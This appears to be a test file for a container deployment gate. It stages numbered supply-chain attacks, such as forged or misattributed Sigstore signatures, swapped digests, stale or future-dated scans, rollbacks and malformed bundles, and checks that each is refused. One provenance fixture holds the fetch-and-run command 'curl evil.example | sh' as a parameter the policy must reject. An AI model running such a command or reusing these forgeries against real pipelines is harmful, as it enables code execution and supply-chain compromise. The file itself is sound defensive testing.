import assert from 'node:assert/strict';
import { existsSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, it, type TestContext } from 'node:test';
import { DSSEBundleBuilder } from '@sigstore/sign';
import { bundleToJSON } from '@sigstore/bundle';
import type { GateAnswer } from '../../src/core/observation.ts';
import { SupplyChainError, type SupplyChainCode } from '../../src/supply-chain/error.ts';
import { hexOf } from '../../src/supply-chain/oci/digest.ts';
import { MEDIA_TYPES } from '../../src/supply-chain/oci/media-types.ts';
import type { ImageRepository } from '../../src/supply-chain/oci/repository.ts';
import {
  HOUR,
  NOW,
  provenanceOf,
  sbomOf,
  scanOf,
  summaryOf,
} from '../../src/supply-chain/policy/testing/statements.ts';
import { storeImage } from '../../src/supply-chain/policy/testing/stored-image.ts';
import { signStatement, type Signing } from '../../src/supply-chain/signing/sign-statement.ts';
import { policyFor, retarget, stage, startWorld, WORKFLOW, type Stage, type World } from './stage.ts';

/**
 * What an attacker does, and what the gate of production answers. Nothing is imagined: bundles are signed by two real
 * Sigstore instances, ours and the attacker's, and by local keys; they lie in a real repository, and are verified and judged
 * by all that a rollout uses. Numbers that are not here are in
 * `ELSEWHERE`.
 */
interface Attack {
  readonly number: string;
  readonly does: string;
  readonly expect: 'ALLOW' | 'WAIT' | SupplyChainCode;
  readonly run: (stage: Stage, world: World) => Promise<GateAnswer>;
}

const PARENT = { artifact: { kind: 'image' as const, repository: 'registry/shop', env: {} }, name: '1.1.0' };

const ATTACKS: readonly Attack[] = [
  {
    number: '01',
    does: 'nothing: all the evidence is there, and good',
    expect: 'ALLOW',
    async run({ attachGood, ask }) {
      await attachGood();
      return ask();
    },
  },
  {
    number: '02',
    does: 'gives a tag where a digest is wanted',
    expect: 'NOT_A_DIGEST',
    async run({ attachGood, ask }) {
      await attachGood();
      return ask({ rollout: { candidate: { ...PARENT, digest: 'latest' } } });
    },
  },
  {
    number: '03',
    does: 'lets the registry serve other bytes for the digest',
    expect: 'DIGEST_MISMATCH',
    async run({ attachGood, ask, directory, image, repository }) {
      await attachGood();
      const { bytes } = await repository.manifest(image);
      const other = Buffer.from(bytes);
      other.write('S', other.indexOf('schemaVersion'));
      writeFileSync(path.join(directory, 'images/blobs/sha256', hexOf(image)), other);
      return ask();
    },
  },
  {
    number: '04',
    does: 'copies the good evidence of another image over',
    expect: 'SUBJECT_MISMATCH',
    async run({ attachGood, attach, ask, repository, by }) {
      const other = await storeImage(repository, { content: 'another' });
      await attachGood('sbom');
      await attach(await signStatement(retarget(sbomOf({}), other), by.build));
      return ask();
    },
  },
  ...(
    [
      ['05', 'signs from a sibling repository', { subject: subjectIn('acme/shop-evil') }],
      [
        '06',
        'signs by the same workflow on a branch of theirs',
        { subject: WORKFLOW.subject.replace('main', 'evil') },
      ],
      ['07', 'has the right subject of another issuer', { issuer: 'https://issuer.evil.example' }],
      ['07b', 'has an issuer that begins like the right one', { issuer: `${WORKFLOW.issuer}/evil` }],
      [
        '29',
        'calls our reusable workflow from a repository of theirs',
        { sourceRepository: 'https://github.com/evil/shop', sourceRepositoryId: '666' },
      ],
      [
        '29b',
        'calls our own workflow from a branch of theirs, so that it builds what they wrote',
        { sourceRepositoryRef: 'refs/heads/evil' },
      ],
      ['30', 'makes a repository of the same name anew', { sourceRepositoryId: '43' }],
    ] as const
  ).map(([number, does, changes]): Attack => ({
    number,
    does,
    expect: 'UNTRUSTED_SIGNER',
    async run({ attachGood, attach, ask, good }, { ours }) {
      await attachGood('sbom');
      await attach({ ...good().sbom, by: ours.workflowSigning({ ...WORKFLOW, ...changes }) });
      return ask();
    },
  })),
  {
    number: '08',
    does: 'signs with certificates of a Sigstore of their own',
    expect: 'CERTIFICATE_ERROR',
    async run({ attachGood, attach, ask, good }, { theirs }) {
      await attachGood('sbom');
      await attach({ ...good().sbom, by: theirs.workflowSigning(WORKFLOW) });
      return ask();
    },
  },
  {
    number: '09',
    does: 'signs with an old certificate, which no log and no timestamp saw in its time',
    expect: 'TIMESTAMP_ERROR',
    async run({ attachGood, attach, ask, good, by }) {
      await attachGood('sbom');
      await attach({ ...good().sbom, by: { ...by.build, witnesses: [] } });
      return ask();
    },
  },
  {
    number: '10',
    does: 'grafts the log entry of another signature in',
    expect: 'TLOG_BODY_ERROR',
    async run({ attachGood, attach, ask, good, by }) {
      await attachGood('sbom');
      const [one, other] = await Promise.all(
        [good().sbom, good().scan].map(async ({ statement }) =>
          asObject(await signStatement(statement, by.build)),
        ),
      );
      const material = asObject(Buffer.from(JSON.stringify(one?.['verificationMaterial'])));
      const foreign = asObject(Buffer.from(JSON.stringify(other?.['verificationMaterial'])));
      const verificationMaterial = { ...material, tlogEntries: foreign['tlogEntries'] };
      await attach(Buffer.from(JSON.stringify({ ...one, verificationMaterial })));
      return ask();
    },
  },
  {
    number: '11',
    does: 'has a trusted signer sign something that is no statement',
    expect: 'PAYLOAD_TYPE',
    async run({ attachGood, attach, ask, good, by }) {
      await attachGood('sbom');
      const data = Buffer.from(JSON.stringify(good().sbom.statement));
      await attach(await signRaw(data, 'application/json', by.build));
      return ask();
    },
  },
  {
    number: '12',
    does: 'attaches every kind of evidence but one',
    expect: 'MISSING_SBOM',
    async run({ attachGood, ask }) {
      await attachGood('sbom');
      return ask();
    },
  },
  {
    number: '13',
    does: 'brings an image with a critical vulnerability',
    expect: 'VULNERABLE',
    async run({ attachGood, attach, ask, image, by }) {
      await attachGood('scan');
      const found = [{ id: 'CVE-2026-1', severity: 'critical' as const }];
      await attach({ statement: retarget(scanOf({ found }), image), by: by.security });
      return ask();
    },
  },
  {
    number: '14',
    does: 'brings a scan from before the vulnerability was known',
    expect: 'SCAN_STALE',
    async run({ attachGood, attach, ask, image, by }) {
      await attachGood('scan');
      await attach({ statement: retarget(scanOf({ age: 25 * HOUR }), image), by: by.security });
      return ask();
    },
  },
  {
    number: '15',
    does: 'attaches 17 MiB as the SBOM',
    expect: 'TOO_LARGE',
    async run({ attachGood, attach, ask, good, by }) {
      await attachGood('sbom');
      const { statement } = good().sbom;
      const predicate = { ...Object(statement.predicate), padding: 'x'.repeat(17 * 1024 * 1024) };
      await attach({ statement: { ...statement, predicate }, by: by.security });
      return ask();
    },
  },
  {
    number: '16',
    does: 'gives the digest of an index of several platforms',
    expect: 'INDEX_NOT_ALLOWED',
    async run({ ask, repository, image }) {
      const { bytes } = await repository.manifest(image);
      const entry = { mediaType: MEDIA_TYPES.manifest, digest: image, size: bytes.length };
      const index = { schemaVersion: 2, mediaType: MEDIA_TYPES.index, manifests: [entry] };
      return askAboutManifest(ask, repository, index, MEDIA_TYPES.index);
    },
  },
  {
    number: '17',
    does: 'has a manifest that is an index as well',
    expect: 'MEDIATYPE_CONFUSION',
    async run({ ask, repository, image }) {
      const raw = await repository.manifest(image);
      const both = { ...asObject(Buffer.from(raw.bytes)), manifests: [] };
      const bytes = Buffer.from(JSON.stringify(both));
      return ask({ repository: { manifest: async () => ({ ...raw, bytes }) } });
    },
  },
  {
    number: '18',
    does: 'brings an image for another processor',
    expect: 'WRONG_PLATFORM',
    async run({ ask, repository }) {
      const digest = await storeImage(repository, { architecture: 'arm64' });
      return ask({ rollout: { candidate: { ...PARENT, digest } } });
    },
  },
  {
    number: '19',
    does: 'brings an older image back, with all its good evidence',
    expect: 'ROLLBACK',
    async run({ attachGood, ask }) {
      await attachGood();
      return ask({ bench: { floor: async () => NOW - HOUR } });
    },
  },
  {
    number: '20',
    does: 'goes to production without having been in dev',
    expect: 'MISSING_VSA',
    async run({ attachGood, ask }) {
      await attachGood('verdict');
      return ask();
    },
  },
  {
    number: '21',
    does: 'lets the build sign the verdict in the name of the engine',
    expect: 'UNTRUSTED_SIGNER',
    async run({ attachGood, attach, ask, good, by }) {
      await attachGood('verdict');
      await attach({ ...good().verdict, by: by.build });
      return ask();
    },
  },
  {
    number: '22',
    does: 'goes to production after it failed in dev',
    expect: 'VSA_POLICY',
    async run({ attachGood, attach, ask, image, by }) {
      await attachGood('verdict');
      const failed = summaryOf({ digest: image, result: 'FAILED' });
      await attach({ statement: retarget(failed, image), by: by.engine });
      return ask();
    },
  },
  ...(
    [
      ['23', 'shows the verdict of another environment', { environment: 'test' }],
      ['23b', 'shows the verdict of another service', { service: 'pay' }],
      ['23c', 'shows a verdict about an image of another repository', { repository: 'registry/shop-evil' }],
    ] as const
  ).map(([number, does, changes]): Attack => ({
    number,
    does,
    expect: 'VSA_POLICY',
    async run({ attachGood, attach, ask, image, by }) {
      await attachGood('verdict');
      const summary = summaryOf({ digest: image, ...changes });
      await attach({ statement: retarget(summary, image), by: by.engine });
      return ask();
    },
  })),
  {
    number: '24',
    does: 'attaches junk beside the good evidence',
    expect: 'ALLOW',
    async run({ attachGood, attach, ask, good, by }) {
      await attachGood();
      for (const junk of JUNK) await attach(Buffer.from(junk));
      await attach({ ...good().verdict, by: by.stranger });
      await attach({ statement: { ...good().sbom.statement, predicateType: 'x' }, by: by.build });
      return ask();
    },
  },
  {
    number: '25',
    does: 'floods the image with attachments',
    expect: 'TOO_MANY_REFERRERS',
    async run({ attachGood, attach, ask, repository, image }) {
      await attachGood();
      const junk = await attach(Buffer.from('{}'));
      const real = await repository.referrers(image);
      const one = real.find(({ digest }) => digest === junk);
      const flood = Array.from({ length: 600 }, () => one).filter((each) => each !== undefined);
      return ask({ repository: { referrers: async () => [...flood, ...real] } });
    },
  },
  {
    number: '26',
    does: 'attaches bundles that are malformed in every way',
    expect: 'MISSING_SBOM',
    async run({ attachGood, attach, ask }) {
      await attachGood('sbom');
      for (const junk of JUNK) await attach(Buffer.from(junk));
      return ask();
    },
  },
  ...(
    [
      [
        '27',
        'hides the digest in the name of the subject',
        (hex: string) => ({ name: `sha256:${hex}`, digest: { sha256: '0'.repeat(64) } }),
      ],
      ['27b', 'gives the digest under another algorithm', (hex: string) => ({ digest: { sha512: hex } })],
      [
        '49',
        'writes the digest of the subject in capitals',
        (hex: string) => ({ digest: { sha256: hex.toUpperCase() } }),
      ],
    ] as const
  ).map(([number, does, subject]): Attack => ({
    number,
    does,
    expect: 'SUBJECT_MISMATCH',
    async run({ attachGood, attach, ask, good, image }) {
      await attachGood('sbom');
      const { statement, by } = good().sbom;
      await attach({ statement: { ...statement, subject: [subject(hexOf(image))] }, by });
      return ask();
    },
  })),
  {
    number: '28',
    does: 'builds with a parameter that nobody expects',
    expect: 'PROVENANCE_POLICY',
    async run({ attachGood, attach, ask, image, by }) {
      await attachGood('provenance');
      const parameters = { source: 'main', commit: '1234', script: 'curl evil.example | sh' };
      await attach({ statement: retarget(provenanceOf({ parameters }), image), by: by.build });
      return ask();
    },
  },
  {
    number: '28b',
    does: 'dates the build in the future, so that nothing is ever newer',
    expect: 'PROVENANCE_POLICY',
    async run({ attachGood, attach, ask, image, by }) {
      await attachGood('provenance');
      await attach({ statement: retarget(provenanceOf({ age: -2 * HOUR }), image), by: by.build });
      return ask();
    },
  },
  {
    number: '32',
    does: 'signs with a key where the workflow has to sign',
    expect: 'UNTRUSTED_SIGNER',
    async run({ attachGood, attach, ask, good, by }) {
      await attachGood('sbom');
      await attach({ ...good().sbom, by: by.security });
      return ask();
    },
  },
  {
    number: '32b',
    does: 'signs as the workflow where a key has to sign',
    expect: 'UNTRUSTED_SIGNER',
    async run({ attachGood, attach, ask, good }, { ours }) {
      await attachGood('verdict');
      await attach({
        ...good().verdict,
        by: ours.signing({ subject: 'engine-dev', issuer: 'https://evil.example' }),
      });
      return ask();
    },
  },
  {
    number: '33',
    does: 'keeps an older clean scan beside a newer bad one',
    expect: 'VULNERABLE',
    async run({ attachGood, attach, ask, image, by }) {
      await attachGood();
      const found = [{ id: 'CVE-2026-1', severity: 'high' as const }];
      await attach({ statement: retarget(scanOf({ age: 5 * 60_000, found }), image), by: by.build });
      return ask();
    },
  },
  {
    number: '34',
    does: 'deletes the verdict that it failed, and keeps an older good one',
    expect: 'VSA_POLICY',
    async run({ attachGood, ask, image }) {
      await attachGood();
      const block = { service: 'shop', environment: 'dev', digest: image, release: '1.1.0' };
      const blocks = async (_service: string, environment: string) =>
        environment === 'dev' ? [{ ...block, rollout: 'shop-dev-3', at: NOW, reasons: [] }] : [];
      return ask({ bench: { blocks } });
    },
  },
  {
    number: '35',
    does: 'goes on by a verdict that a later one took back',
    expect: 'VSA_POLICY',
    async run({ attachGood, attach, ask, image, by }) {
      await attachGood();
      const back = summaryOf({ digest: image, result: 'FAILED', age: 60_000 });
      await attach({ statement: retarget(back, image), by: by.engine });
      return ask();
    },
  },
  {
    number: '35b',
    does: 'has it fail in dev from another repository, where it has the same digest',
    expect: 'VSA_POLICY',
    async run({ attachGood, attach, ask, image, by }) {
      await attachGood();
      const changes = { result: 'FAILED', age: 60_000, repository: 'registry/shop-mirror' } as const;
      await attach({ statement: retarget(summaryOf({ digest: image, ...changes }), image), by: by.engine });
      return ask();
    },
  },
  {
    number: '36',
    does: 'lets the engine of another environment speak for dev',
    expect: 'UNTRUSTED_SIGNER',
    async run({ attachGood, attach, ask, good, by }) {
      await attachGood('verdict');
      await attach({ ...good().verdict, by: by.otherEngine });
      return ask();
    },
  },
  {
    number: '37',
    does: 'names evidence in the verdict that is nowhere: a verdict stands by its signature',
    expect: 'ALLOW',
    async run({ attachGood, attach, ask, good }) {
      await attachGood('verdict');
      const { statement, by } = good().verdict;
      const inputAttestations = [{ uri: 'oci://registry/shop', digest: { sha256: '0'.repeat(64) } }];
      const predicate = { ...Object(statement.predicate), inputAttestations };
      await attach({ statement: { ...statement, predicate }, by });
      return ask();
    },
  },
  {
    number: '38',
    does: 'dates the verdict in the future',
    expect: 'VSA_POLICY',
    async run({ attachGood, attach, ask, image, by }) {
      await attachGood('verdict');
      await attach({
        statement: retarget(summaryOf({ digest: image, age: -2 * HOUR }), image),
        by: by.engine,
      });
      return ask();
    },
  },
  {
    number: '38b',
    does: 'dates the scan in the future, to keep it fresh',
    expect: 'SCAN_STALE',
    async run({ attachGood, attach, ask, image, by }) {
      await attachGood('scan');
      await attach({ statement: retarget(scanOf({ age: -2 * HOUR }), image), by: by.security });
      return ask();
    },
  },
  {
    number: '41',
    does: 'deletes evidence while the rollout is under way',
    expect: 'NOT_FOUND',
    async run({ attachGood, ask, repository }) {
      await attachGood();
      const first = await ask();
      assert.ok(first.kind === 'open' && first.admission !== undefined);
      const gone = first.admission.evidence[0]?.referrer;
      const manifest: ImageRepository['manifest'] = async (digest, signal) => {
        if (digest === gone) throw new SupplyChainError('NOT_FOUND', `there is no ${digest}`);
        return repository.manifest(digest, signal);
      };
      const referrers: ImageRepository['referrers'] = async (subject) =>
        (await repository.referrers(subject)).filter(({ digest }) => digest !== gone);
      return ask({ rollout: { admission: first.admission }, repository: { manifest, referrers } });
    },
  },
  {
    number: '41b',
    does: 'attaches bad news while the rollout is under way',
    expect: 'VULNERABLE',
    async run({ attachGood, attach, ask, image, by }) {
      await attachGood();
      const first = await ask();
      assert.ok(first.kind === 'open' && first.admission !== undefined);
      const found = [{ id: 'CVE-2026-1', severity: 'high' as const }];
      await attach({ statement: retarget(scanOf({ age: 0, found }), image), by: by.security });
      return ask({ rollout: { admission: first.admission } });
    },
  },
  {
    number: '43',
    does: 'lists evidence that is attached to another image as if it were attached to this one',
    expect: 'SUBJECT_MISMATCH',
    async run({ attachGood, attach, ask, good, repository, image }) {
      await attachGood('sbom');
      const other = await storeImage(repository, { content: 'another' });
      await attach(good().sbom, other);
      const referrers: ImageRepository['referrers'] = async () => [
        ...(await repository.referrers(image)),
        ...(await repository.referrers(other)),
      ];
      return ask({ repository: { referrers } });
    },
  },
  {
    number: '44',
    does: 'has a trusted signer sign a verdict with every name given twice: the last one counts, for all alike',
    expect: 'VSA_POLICY',
    async run({ attachGood, attach, ask, good, by }) {
      await attachGood('verdict');
      const text = JSON.stringify(good().verdict.statement);
      const twice = text.replace(
        '"verificationResult":"PASSED"',
        '"verificationResult":"PASSED","verificationResult":"FAILED"',
      );
      assert.notEqual(twice, text);
      await attach(await signRaw(Buffer.from(twice), 'application/vnd.in-toto+json', by.engine));
      return ask();
    },
  },
  {
    number: '44b',
    does: 'nests a predicate a hundred thousand deep',
    expect: 'MALFORMED_STATEMENT',
    async run({ attachGood, attach, ask, good, by }) {
      await attachGood('sbom');
      const text = JSON.stringify({ ...good().sbom.statement, predicate: 'deep' });
      const deep = text.replace('"deep"', `${'['.repeat(100_000)}${']'.repeat(100_000)}`);
      await attach(await signRaw(Buffer.from(deep), 'application/vnd.in-toto+json', by.build));
      return ask();
    },
  },
  {
    number: '48',
    does: 'brings the image from a repository of theirs',
    expect: 'REPOSITORY_NOT_ALLOWED',
    async run({ attachGood, ask, image }) {
      await attachGood();
      const artifact = { ...PARENT.artifact, repository: 'registry/shop-evil' };
      return ask({ rollout: { candidate: { ...PARENT, artifact, digest: image } } });
    },
  },
  {
    number: '49b',
    does: 'gives the digest of the image in capitals',
    expect: 'NOT_A_DIGEST',
    run: ({ ask, image }) => ask({ rollout: { candidate: { ...PARENT, digest: image.toUpperCase() } } }),
  },
  {
    number: '50',
    does: 'nothing: the SBOM is about another image as well, which is told',
    expect: 'ALLOW',
    async run({ attachGood, attach, ask, good }) {
      await attachGood('sbom');
      const { statement, by } = good().sbom;
      const subject = [...statement.subject, { name: 'another', digest: { sha256: '0'.repeat(64) } }];
      await attach({ statement: { ...statement, subject }, by });
      return ask();
    },
  },
  {
    number: '53',
    does: 'let the image into dev by a policy of their own',
    expect: 'VSA_POLICY',
    async run({ attachGood, ask, directory }, { ours }) {
      await attachGood();
      const policy = policyFor(ours, path.join(directory, 'keys'));
      const policies = [`sha256:${'c'.repeat(64)}`];
      const rules = policy.rules.map((rule) => (rule.evidence === 'verdict' ? { ...rule, policies } : rule));
      return ask({ policy: { ...policy, rules } });
    },
  },
  {
    number: '54',
    does: 'has a trusted root accepted that does not say since when it counts',
    expect: 'BAD_TRUST',
    async run({ attachGood, ask, directory }, { ours }) {
      await attachGood();
      const text = JSON.stringify(policyFor(ours, path.join(directory, 'keys')));
      return ask({
        policy: JSON.parse(text.replaceAll(/"start":"[^"]*"/g, '"end":"2030-01-01T00:00:00.000Z"')),
      });
    },
  },
  ...(
    [
      ['56', 'keeps the registry from answering', 'WAIT', 'REGISTRY_UNAVAILABLE'],
      ['56b', 'has the registry refuse us', 'UNAUTHORIZED', 'UNAUTHORIZED'],
      ['56c', 'has the registry send us elsewhere', 'REDIRECT_REFUSED', 'REDIRECT_REFUSED'],
    ] as const
  ).map(([number, does, expected, code]): Attack => ({
    number,
    does,
    expect: expected,
    async run({ attachGood, ask }) {
      await attachGood();
      const referrers = async () => {
        throw new SupplyChainError(code, 'the registry answered 503 Service Unavailable');
      };
      return ask({ repository: { referrers } });
    },
  })),
];

/** Attacks that have to be tested where they happen: by their numbers, what they are, and the file that does it. */
const ELSEWHERE: readonly (readonly [string, string, string])[] = [
  ['31', 'a pattern that matches more than meant', 'src/config/resolve-policy.test.ts'],
  ['40', 'another digest runs than was verified', 'src/targets/local/proxy/starter.test.ts'],
  ['42', 'evidence on the second page', 'src/supply-chain/registry/client/pages.test.ts'],
  [
    '47',
    'a redirect to another host, with our password',
    'src/supply-chain/registry/client/redirects.test.ts',
  ],
  ['51', 'only a warning in production', 'src/config/resolve-policy.test.ts'],
  ['55', 'an old root after a rotation', 'src/supply-chain/verification/read-evidence.test.ts'],
];

/** Nothing of it is a bundle, and some of it makes parsers throw in ways of their own. */
const JUNK: readonly string[] = [
  '',
  'null',
  '[]',
  '"bundle"',
  '{',
  '{}',
  '{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}',
  '{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json","verificationMaterial":null,"dsseEnvelope":null}',
  '{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json","verificationMaterial":{"publicKey":{"hint":1}},"dsseEnvelope":{"payload":1,"signatures":[]}}',
  '{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json","verificationMaterial":{"certificate":{"rawBytes":"AAAA"}},"dsseEnvelope":{"payload":"e30=","payloadType":"application/vnd.in-toto+json","signatures":[{"sig":"AAAA"}]}}',
  '{"__proto__":{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}}',
];

function subjectIn(repository: string): string {
  return WORKFLOW.subject.replace('acme/shop', repository);
}

async function signRaw(data: Buffer, type: string, { signer, witnesses }: Signing): Promise<Buffer> {
  const bundle = await new DSSEBundleBuilder({ signer, witnesses: [...witnesses] }).create({ data, type });
  return Buffer.from(JSON.stringify(bundleToJSON(bundle)));
}

function asObject(bytes: Buffer): Record<string, unknown> {
  const value: unknown = JSON.parse(bytes.toString('utf8'));
  assert.ok(typeof value === 'object' && value !== null);
  return { ...value };
}

async function askAboutManifest(
  ask: Stage['ask'],
  repository: ImageRepository,
  document: object,
  mediaType: string,
): Promise<GateAnswer> {
  const digest = await repository.putManifest(Buffer.from(JSON.stringify(document)), mediaType, null);
  return ask({ rollout: { candidate: { ...PARENT, digest } } });
}

describe('the gate, when somebody', () => {
  let world: World;
  before(async () => {
    world = await startWorld();
  });
  after(() => world.close());

  for (const { number, does, expect, run } of ATTACKS) {
    it(`(${number}) ${does}, answers ${expect}`, async (t: TestContext) => {
      const answer = await run(await stage(t, world), world);
      const said = JSON.stringify(answer, null, 1).slice(0, 2_000);
      if (expect === 'ALLOW') {
        assert.equal(answer.kind, 'open', said);
        assert.ok(answer.kind === 'open' && (answer.admission?.evidence.length ?? 0) >= 5, said);
      } else if (expect === 'WAIT') {
        assert.equal(answer.kind, 'waiting', said);
      } else {
        assert.equal(answer.kind, 'closed', said);
        const codes = answer.kind === 'closed' ? (answer.refusals ?? []).map(({ code }) => code) : [];
        assert.ok(codes.includes(expect), said);
      }
    });
  }

  it('attacks otherwise, is tested elsewhere; and every attack has a number of its own', () => {
    const numbers = ATTACKS.map(({ number }) => number);
    assert.equal(new Set(numbers).size, numbers.length);
    for (const [number, what, file] of ELSEWHERE) {
      assert.ok(!numbers.includes(number), what);
      assert.ok(existsSync(path.join(import.meta.dirname, '../..', file)), file);
    }
    const first = Array.from({ length: 28 }, (_, index) => String(index + 1).padStart(2, '0'));
    assert.deepEqual(
      first.filter((number) => !numbers.includes(number)),
      [],
    );
  });
});
